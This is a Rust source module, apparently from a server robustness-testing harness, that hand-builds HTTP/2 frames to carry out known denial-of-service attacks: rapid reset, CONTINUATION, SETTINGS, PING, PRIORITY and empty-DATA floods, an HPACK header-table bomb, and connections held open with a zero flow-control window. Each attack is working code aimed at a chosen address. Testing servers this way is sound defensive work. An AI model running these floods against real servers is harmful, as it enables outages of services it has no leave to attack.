//! Attacks by HTTP/2, frame by frame (RFC 9113, 4.1): no client library would send them.

use std::io::Write as _;
use std::net::SocketAddr;
use std::thread;

use super::{Scale, connect, floods};

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const PRIORITY: u8 = 2;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;

const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).expect("frames are short").to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// The beginning of a connection, with these settings.
fn opening(settings: &[u8]) -> Vec<u8> {
    [b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec(), frame(SETTINGS, 0, 0, settings)].concat()
}

/// The fields of a request, without compression: method and scheme from the static table, the rest literally.
fn head(method: u8, path: &str) -> Vec<u8> {
    let literal = |name: u8, value: &str| {
        let length = u8::try_from(value.len()).expect("values are short");
        [&[name, length], value.as_bytes()].concat()
    };
    [vec![method, 0x86], literal(4, path), literal(1, "t")].concat()
}

const GET: u8 = 0x82;
const POST: u8 = 0x83;

/// The number of the request with this index.
fn stream(index: usize) -> u32 {
    u32::try_from(index).expect("indices are small") * 2 + 1
}

/// Requests that are taken back at once.
pub fn rapid_reset(to: SocketAddr, scale: &Scale) -> String {
    let head = head(GET, "/ok");
    floods(to, scale, &opening(&[]), |index| {
        let stream = stream(index);
        let request = frame(HEADERS, END_STREAM | END_HEADERS, stream, &head);
        [request, frame(RST_STREAM, 0, stream, &[0, 0, 0, 8])].concat()
    })
}

/// A head that does not end.
pub fn continuation(to: SocketAddr, scale: &Scale) -> String {
    let begin = [opening(&[]), frame(HEADERS, END_STREAM, 1, &head(GET, "/ok"))].concat();
    // A field that is neither indexed nor compressed.
    let field = [&[0, 1, b'x', 100][..], &[b'y'; 100]].concat();
    floods(to, scale, &begin, |_| frame(CONTINUATION, 0, 1, &field))
}

/// Settings, each of which asks for an acknowledgement.
pub fn settings(to: SocketAddr, scale: &Scale) -> String {
    floods(to, scale, &opening(&[]), |index| frame(SETTINGS, 0, 0, &[0, 4, 0, 0, (index % 250) as u8, 1]))
}

/// Pings, each of which asks for an answer.
pub fn pings(to: SocketAddr, scale: &Scale) -> String {
    floods(to, scale, &opening(&[]), |index| frame(PING, 0, 0, &(index as u64).to_be_bytes()))
}

/// Priorities of streams that do not exist.
pub fn priorities(to: SocketAddr, scale: &Scale) -> String {
    floods(to, scale, &opening(&[]), |index| frame(PRIORITY, 0, stream(index), &[0, 0, 0, 0, 1]))
}

/// A body of nothing, again and again.
pub fn empty_data(to: SocketAddr, scale: &Scale) -> String {
    let begin = [opening(&[]), frame(HEADERS, END_HEADERS, 1, &head(POST, "/body-size"))].concat();
    floods(to, scale, &begin, |_| frame(DATA, 0, 1, &[]))
}

/// One long field in the table, and heads of one byte for each time that it is meant.
pub fn header_bomb(to: SocketAddr, scale: &Scale) -> String {
    let long = [&[0x40, 1, b'x', 127, 0xc1, 0x1e][..], &[b'y'; 4032]].concat();
    let first = [head(GET, "/ok"), long].concat();
    let begin = [opening(&[]), frame(HEADERS, END_STREAM | END_HEADERS, 1, &first)].concat();
    let bomb = [head(GET, "/ok"), vec![0xbe; 4000]].concat();
    floods(to, scale, &begin, |index| frame(HEADERS, END_STREAM | END_HEADERS, stream(index + 1), &bomb))
}

/// Requests for long answers, for which there is never room.
pub fn no_window(to: SocketAddr, scale: &Scale) -> String {
    let begin = opening(&[0, 4, 0, 0, 0, 0]);
    let head = head(GET, "/stream?mib=8");
    let requests: Vec<u8> =
        (0..8).flat_map(|index| frame(HEADERS, END_STREAM | END_HEADERS, stream(index), &head)).collect();
    let open = |number| {
        let mut stream = connect(to, number).ok()?;
        stream.write_all(&begin).and_then(|()| stream.write_all(&requests)).ok()?;
        Some(stream)
    };
    let held: Vec<_> = (0..scale.floods).filter_map(open).collect();
    thread::sleep(scale.lasting);
    format!("{} connections, 8 requests for 8 MiB each, no byte of which is taken", held.len())
}
